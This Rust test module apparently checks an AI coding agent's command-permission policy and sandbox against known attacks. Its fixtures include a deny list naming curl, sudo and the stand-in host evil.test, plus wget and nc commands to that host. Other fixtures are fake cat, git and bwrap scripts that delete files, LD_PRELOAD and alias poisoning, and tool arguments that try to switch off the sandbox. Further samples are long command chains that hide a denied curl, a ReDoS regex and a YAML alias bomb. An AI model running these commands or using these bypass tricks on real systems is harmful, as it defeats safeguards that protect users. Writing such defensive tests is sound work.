//! Known attacks on programs of this kind, each tried on the shipped one: on its judgment of
//! commands here, and in the directory on files, names, secrets and what the model is told.

mod files;
mod names;
mod reading;
mod sandbox;
pub(crate) mod secrets;
mod text;

use std::fmt::Write as _;
use std::os::unix::fs::PermissionsExt;

use serde_json::{Value, json};
use testkit::{ModelServer, Project, Reply, Run};

use crate::{project, project_with};

const RULES: &str = "permissions:
  allow: ['Bash(git status:*)', 'Bash(cargo test:*)', 'Bash(cargo build:*)', 'Bash(npm test:*)',
    'Bash(pytest:*)', 'Bash(find:*)', 'Bash(sed:*)', 'Bash(sort:*)', 'Bash(uniq:*)', 'Bash(rg:*)']
  deny: ['Bash(curl:*)', 'Bash(git push:*)', 'Bash(sudo:*)', 'Host(evil.test)']
";

/// Runs a tool with everything approved that may be approved.
fn exec(project: &Project, tool: &str, input: &Value) -> Run {
    let input = input.to_string();
    project.brynhild(&["tools", "exec", tool, "--input", &input, "--mode", "yolo"])
}

fn bash(project: &Project, command: &str) -> Run {
    exec(project, "Bash", &json!({ "command": command }))
}

/// The decision on a command in a mode: 0 allow, 3 ask, 1 deny.
fn ruling(project: &Project, mode: &str, command: &str) -> i32 {
    let run = project.brynhild(&["--mode", mode, "policy", "check", "--", command]);
    run.status.code().unwrap()
}

#[test]
fn commands_are_decided_as_published() {
    let project = project();
    project.config(RULES);
    let table = include_str!("../../../policy/tests/commands.txt");
    let plain = |line: &&str| !line.is_empty() && !line.starts_with('#') && !line.contains('«');
    for line in table.lines().filter(plain) {
        let mut words = line.splitn(3, ' ');
        let wanted = [words.next().unwrap(), words.next().unwrap()];
        // The table's home directory is below `/home`.
        let top = project.home().iter().nth(1).unwrap().to_str().unwrap().to_owned();
        let command = words.next().unwrap().replace("rm -rf home", &format!("rm -rf {top}"));
        let command = command.replace('␊', "\n").replace('␍', "\r");
        let command = command.replace("⟨202e⟩", "\u{202e}").replace("⟨2066⟩", "\u{2066}");
        let command = command.replace("⟨a0⟩", "\u{a0}").replace("⟨00a0⟩", "\u{a0}");
        for (mode, wanted) in ["ask", "normal"].into_iter().zip(wanted) {
            let wanted = match wanted {
                "allow" => 0,
                "ask" => 3,
                _ => 1,
            };
            assert_eq!(ruling(&project, mode, &command), wanted, "{mode} {command:?}");
        }
    }
}

#[test]
fn denied_command_after_a_long_one_is_denied() {
    let project = project();
    project.config(RULES);
    let chain = "true && ".repeat(10_000);
    assert_eq!(ruling(&project, "normal", &format!("{chain}curl x")), 1);
    assert_eq!(ruling(&project, "normal", &format!("{chain}ls")), 0);
    let server = ModelServer::start([
        Reply::calls([("Bash", json!({"command": format!("{}curl x", "true; ".repeat(150_000))}))]),
        Reply::text("done"),
    ]);
    let project = project_with(&server);
    let told = format!(
        "providers:\n  default: test\n  instances:\n    test:\n      type: openai\n      \
         base_url: {}/v1\n      default_model: test-model\n{RULES}",
        server.url()
    );
    project.config(&told);
    project.brynhild(&["chat", "go", "--mode", "yolo"]);
    let requests = server.chats();
    let result =
        requests.last().unwrap().body["messages"].as_array().unwrap().last().unwrap().clone();
    let text = result["content"].as_str().unwrap();
    assert!(text.contains("Bash(curl:*)"), "{text}");
}

#[test]
fn a_denied_host_is_denied_to_a_command() {
    let project = project();
    project.config(RULES);
    for command in ["wget http://evil.test/x", "git clone git@evil.test:a/b", "nc evil.test 80"] {
        assert_ne!(bash(&project, command).status.code(), Some(0), "{command}");
        for network in [json!(["evil.test"]), json!(["other.test", "x.evil.test"]), json!(true)] {
            let run = exec(&project, "Bash", &json!({"command": command, "network": network}));
            assert_eq!(run.status.code(), Some(1), "{command} {network}: {run}");
            assert!(run.stderr.contains("denied"), "{command} {network}: {run}");
        }
    }
}

#[test]
fn project_program_with_a_known_name_cannot_write() {
    let project = project();
    let own = project.path().join(".venv/bin");
    project.file("a.txt", "plain\n");
    for name in ["cat", "git"] {
        project.file(format!(".venv/bin/{name}"), "#!/bin/sh\ntouch fooled; rm -f a.txt\n");
        let executable = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(own.join(name), executable).unwrap();
    }
    let path = format!("{}:/usr/bin:/bin", own.display());
    for mode in ["read-only", "ask", "normal"] {
        for command in ["cat a.txt", "git status"] {
            let input = json!({"command": command}).to_string();
            let words = ["--mode", mode, "tools", "exec", "Bash", "--input", &input];
            let run = project.command(&words).env("PATH", &path).run();
            assert!(!project.path().join("fooled").exists(), "{mode} {command}: {run}");
            assert_eq!(project.read("a.txt"), "plain\n", "{mode} {command}: {run}");
        }
    }
}

#[test]
fn sandbox_program_of_the_project_is_never_run() {
    let project = project();
    let own = project.path().join("node_modules/.bin");
    for path in ["bwrap", "node_modules/.bin/bwrap"] {
        project.file(path, "#!/bin/sh\ntouch fooled\n");
        let executable = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(project.path().join(path), executable).unwrap();
    }
    let path = format!("{}:.:{}:/usr/bin:/bin", own.display(), project.path().display());
    let run = |words: &[&str]| project.command(words).env("PATH", &path).run();
    run(&["sandbox", "run", "--", "/bin/echo", "confined"]).success();
    run(&["sandbox", "doctor"]).success();
    run(&["tools", "exec", "Bash", "--input", r#"{"command": "echo"}"#, "--yes"]).success();
    assert!(!project.path().join("fooled").exists());
}

#[test]
fn commands_share_no_state() {
    let project = project();
    let poison = "export PATH=.:$PATH LD_PRELOAD=./x.so BASH_ENV=./x; alias ls='touch fooled'; \
                  ls() { touch fooled; }; export -f ls; set -a; umask 0; cd /";
    bash(&project, poison);
    let run = bash(&project, "echo \"$LD_PRELOAD$BASH_ENV\"; pwd; type -t ls; ls");
    run.success();
    let root = project.path().canonicalize().unwrap();
    assert!(run.stdout.starts_with(&format!("\n{}\nfile\n", root.display())), "{run}");
    assert!(!project.path().join("fooled").exists());
}

#[test]
fn tool_arguments_cannot_change_the_sandbox() {
    let project = project();
    std::fs::write(project.home().join("secret"), "s3cret").unwrap();
    let secret = project.home().join("secret");
    for extra in [
        json!({"sandbox": false}),
        json!({"dangerously_disable_sandbox": true, "unsandboxed": true}),
        json!({"cwd": "/"}),
        json!({"cwd": project.home()}),
        json!({"mode": "yolo", "permissions": "all"}),
    ] {
        let mut input = json!({"command": format!("cat {}; pwd", secret.display())});
        input.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        let run = exec(&project, "Bash", &input);
        assert!(!run.stdout.contains("s3cret"), "{input}: {run}");
        let root = project.path().canonicalize().unwrap();
        let stayed = run.stdout.starts_with(&format!("{}\n", root.display()));
        assert!(stayed || run.status.code() == Some(1), "{input}: {run}");
    }
}

#[test]
fn values_are_never_parsed_as_options() {
    let project = project();
    for words in [
        &["--mode=ask", "policy", "check", "--", "--mode=yolo"][..],
        &["session", "show", "--", "--config=x"],
        &["trust", "--", "--yes", "--list"],
    ] {
        let run = project.brynhild(words);
        assert_ne!(run.status.code(), Some(0), "{words:?}: {run}");
    }
    let server = ModelServer::start([Reply::text("hello")]);
    let project = project_with(&server);
    let run = project.brynhild(&["chat", "--", "--mode=yolo --dangerously-skip-sandbox"]);
    run.success();
    let requests = server.chats();
    let prompt = requests[0].body["messages"].as_array().unwrap().last().unwrap().to_string();
    assert!(prompt.contains("--mode=yolo --dangerously-skip-sandbox"), "{prompt}");
    assert!(!run.stderr.contains("without a sandbox"), "{run}");
}

#[test]
fn hostile_patterns_and_nesting_end_in_time() {
    let project = project();
    project.file("a.txt", "a".repeat(20_000));
    exec(&project, "Grep", &json!({"pattern": "(a+)+$", "path": "."})).success();
    let deep = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    let run = project.brynhild(&["policy", "explain", "--tool", "Bash", "--input", &deep]);
    run.code(2);
    let mut bomb = String::from("a0: &a0 [x, x]\n");
    for level in 1..40 {
        let before = level - 1;
        writeln!(bomb, "a{level}: &a{level} [*a{before}, *a{before}, *a{before}]").unwrap();
    }
    project.file(".brynhild/config.yaml", &bomb);
    let run = project.brynhild(&["config", "show"]);
    assert!(run.stderr.contains("config.yaml"), "{run}");
}
